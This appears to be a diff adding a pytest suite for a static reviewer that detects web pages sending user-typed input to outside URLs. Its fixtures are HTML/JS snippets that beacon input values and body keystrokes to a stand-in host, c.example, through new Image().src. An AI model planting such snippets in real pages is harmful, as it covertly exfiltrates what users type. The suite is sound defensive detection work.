@@ -1,0 +1,202 @@
+"""The static layer's sources of what the user types that name no selector: HTML's named access
+(an element's id, a form's name, as a global: ``q.value``, ``window.q``, ``document.all.q``),
+event-handler attributes (``this`` is their element, ``event`` their event) and a form's named
+controls (``f.q``, ``f.elements.q``, ``document.forms[0].q``). A name the scripts declare
+themselves is that binding, not the element."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from flowui_sandbox.sandbox.review import review_static
+
+URL = "'https://c.example/?' + "
+
+
+def leaks(source: str) -> list[tuple[list[str], list[str]]]:
+    """(paths, hosts) of the block's exfil.input-to-url findings."""
+    return [(f.paths, f.hosts) for f in review_static(source, file="b.html") if f.rule == "exfil.input-to-url"]
+
+
+def sends(markup: str, listener: str, read: str) -> str:
+    """A block: ``markup``, then ``listener`` set to a handler that sends ``read`` to c.example."""
+    return f"{markup}<script>{listener} = () => {{ new Image().src = {URL}{read} }}</script>"
+
+
+# -- named access ------------------------------------------------------------------------
+def test_an_ids_global_is_its_input():
+    assert leaks(sends("<input id=q>", "q.oninput", "q.value")) == [(["input:#q"], ["c.example"])]
+
+
+@pytest.mark.parametrize("read", ["window.q.value", "self.q.value", "globalThis['q'].value", "frames.q.value"])
+def test_an_ids_global_read_through_the_window(read):
+    assert leaks(sends("<input id=q>", "document.body.onclick", read)) == [(["input:#q"], ["c.example"])]
+
+
+def test_a_global_alias_of_the_window_gives_named_access():
+    source = f"<input id=q><script>const w = window; w.q.oninput = () => {{ new Image().src = {URL}w.q.value }}</script>"
+    assert leaks(source) == [(["input:#q"], ["c.example"])]
+
+
+@pytest.mark.parametrize("read", ["document.all.q.value", "document.all['q'].value"])
+def test_document_all_finds_an_input_by_its_name(read):
+    assert leaks(sends("<input name=q>", "document.body.onkeyup", read)) == [(["input:[name=q]"], ["c.example"])]
+
+
+def test_get_elements_by_name_finds_an_input():
+    assert leaks(sends("<input name=q>", "document.body.onkeyup", "document.getElementsByName('q')[0].value")) \
+        == [(["input:[name=q]"], ["c.example"])]
+
+
+def test_a_listener_on_the_ids_global_gets_the_input_as_this():
+    source = f"<input id=q><script>q.addEventListener('input', function () {{ new Image().src = {URL}this.value }})</script>"
+    assert leaks(source) == [(["input:#q"], ["c.example"])]
+
+
+def test_an_id_naming_no_control_gives_no_input():
+    assert leaks(sends("<div id=q></div>", "q.onclick", "q.textContent")) == []
+
+
+def test_a_const_of_the_same_name_is_that_binding():
+    source = f"<input id=q><script>const q = {{value: 'x'}}; document.body.onclick = () => {{ new Image().src = {URL}q.value }}</script>"
+    assert leaks(source) == []
+
+
+def test_a_let_in_another_script_shadows_the_global():
+    source = f"<input id=q><script>let q = 1;</script><script>document.body.onclick = () => {{ new Image().src = {URL}q.value }}</script>"
+    assert leaks(source) == []
+
+
+def test_a_function_declaration_of_the_same_name_is_that_function():
+    source = f"<input id=q><script>function q() {{ return 'x' }} new Image().src = {URL}q.value</script>"
+    assert leaks(source) == []
+
+
+def test_a_parameter_of_the_same_name_is_that_parameter():
+    source = f"<input id=q><script>function send(q) {{ new Image().src = {URL}q.value }} send({{value: 1}})</script>"
+    assert leaks(source) == []
+
+
+def test_a_declaration_in_another_function_does_not_shadow_the_global():
+    source = ("<input id=q><script>function other() { let q = 1; return q }\n"
+              f"q.oninput = () => {{ new Image().src = {URL}q.value }}</script>")
+    assert leaks(source) == [(["input:#q"], ["c.example"])]
+
+
+def test_a_method_of_the_same_name_does_not_shadow_the_global():
+    source = (f"<input id=q><script>class A {{ q() {{ new Image().src = {URL}q.value }} }}\n"
+              "q.oninput = () => new A().q()</script>")
+    assert leaks(source) == [(["input:#q"], ["c.example"])]
+
+
+def test_a_named_function_expression_binds_its_name_inside_itself():
+    source = f"<input id=q><script>document.body.onclick = function q() {{ new Image().src = {URL}q.value }}</script>"
+    assert leaks(source) == []
+
+
+def test_a_top_level_var_shadows_window_named_access():
+    source = f"<input id=q><script>var q = {{value: 1}};</script><script>new Image().src = {URL}window.q.value</script>"
+    assert leaks(source) == []
+
+
+def test_a_top_level_let_leaves_window_named_access():
+    source = f"<input id=q><script>let q = 1;</script><script>document.body.onclick = () => {{ new Image().src = {URL}window.q.value }}</script>"
+    assert leaks(source) == [(["input:#q"], ["c.example"])]
+
+
+def test_an_id_the_window_itself_defines_is_not_named_access():
+    assert leaks(sends("<input id=name>", "document.body.onclick", "name.value")) == []
+
+
+def test_an_ids_global_showing_a_count_gives_no_finding():
+    source = ("<textarea id=bio></textarea><span id=chars></span>"
+              "<script>bio.oninput = () => { chars.textContent = bio.value.length + ' / 280' }</script>")
+    assert [f.rule for f in review_static(source)] == []
+
+
+# -- event-handler attributes --------------------------------------------------------------
+def test_this_in_an_input_attribute_is_the_input():
+    assert leaks(f"<input id=q oninput=\"new Image().src = {URL}this.value\">") == [(["input:#q"], ["c.example"])]
+
+
+def test_this_in_an_arrow_of_an_attribute_is_still_the_element():
+    source = f"<input id=q onkeyup=\"setTimeout(() => {{ new Image().src = {URL}this.value }})\">"
+    assert leaks(source) == [(["input:#q"], ["c.example"])]
+
+
+def test_the_event_target_of_an_attribute_is_its_control():
+    assert leaks(f"<input id=q onchange=\"new Image().src = {URL}event.target.value\">") == [(["input:#q"], ["c.example"])]
+
+
+def test_a_key_in_a_body_attribute_is_what_the_user_types():
+    assert leaks(f"<body onkeydown=\"new Image().src = {URL}event.key\"><p>x</p></body>") == [(["input:keydown"], ["c.example"])]
+
+
+def test_this_in_an_attribute_of_an_element_with_no_control_gives_no_input():
+    assert leaks(f"<div onclick=\"new Image().src = {URL}this.textContent\">x</div>") == []
+
+
+def test_this_in_a_function_of_an_attribute_is_not_the_element():
+    source = f"<input id=q oninput=\"[1].forEach(function () {{ new Image().src = {URL}this.value }})\">"
+    assert leaks(source) == []
+
+
+def test_the_same_attribute_text_on_two_inputs_names_both():
+    handler = f"oninput=\"new Image().src = {URL}this.value\""
+    assert leaks(f"<input id=a {handler}><input id=b {handler}>") == [(["input:#a", "input:#b"], ["c.example"])] * 2
+
+
+def test_an_attribute_that_only_updates_text_gives_no_finding():
+    source = "<textarea id=t oninput=\"document.getElementById('n').textContent = this.value.length\"></textarea><b id=n></b>"
+    assert [f.rule for f in review_static(source)] == []
+
+
+# -- a form's named controls ------------------------------------------------------------------
+FORM = "<form id=f><input name=q><input id=r></form>"
+
+
+@pytest.mark.parametrize("read, path", [
+    ("f.q.value", "input:[name=q]"),
+    ("f.elements.q.value", "input:[name=q]"),
+    ("f['q'].value", "input:[name=q]"),
+    ("f.r.value", "input:#r"),
+    ("document.forms[0].q.value", "input:[name=q]"),
+    ("document.forms.f.elements['q'].value", "input:[name=q]"),
+    ("document.getElementById('f').q.value", "input:[name=q]"),
+])
+def test_a_forms_named_control_is_its_input(read, path):
+    assert leaks(sends(FORM, "f.oninput", read)) == [([path], ["c.example"])]
+
+
+def test_a_forms_controls_by_index_are_its_inputs():
+    assert leaks(sends(FORM, "f.oninput", "f.elements[i].value")) == [(["input:#r", "input:[name=q]"], ["c.example"])]
+
+
+def test_a_form_found_by_its_name_is_a_global():
+    source = sends("<form name=g><textarea name=t></textarea></form>", "g.onchange", "g.t.value")
+    assert leaks(source) == [(["input:[name=t]"], ["c.example"])]
+
+
+def test_this_in_a_forms_attribute_gives_its_controls():
+    source = f"<form oninput=\"new Image().src = {URL}this.q.value\"><input name=q></form>"
+    assert leaks(source) == [(["input:[name=q]"], ["c.example"])]
+
+
+def test_a_controls_form_gives_the_forms_controls():
+    source = f"<form><input name=q></form><script>document.forms[0].q.oninput = function () {{ new Image().src = {URL}this.form.q.value }}</script>"
+    assert leaks(source) == [(["input:[name=q]"], ["c.example"])]
+
+
+def test_a_forms_member_naming_no_control_gives_no_input():
+    assert leaks(sends(FORM, "f.oninput", "f.action")) == []
+
+
+# -- cost --------------------------------------------------------------------------------------
+def test_many_uses_of_a_shadowed_name_stay_fast():
+    body = "function g(q) {\n" + "x = q.value + q.value;\n" * 5000 + "}"
+    source = f"<input id=q><script>{body}</script>"
+    start = time.monotonic()
+    assert leaks(source) == []
+    assert time.monotonic() - start < 5
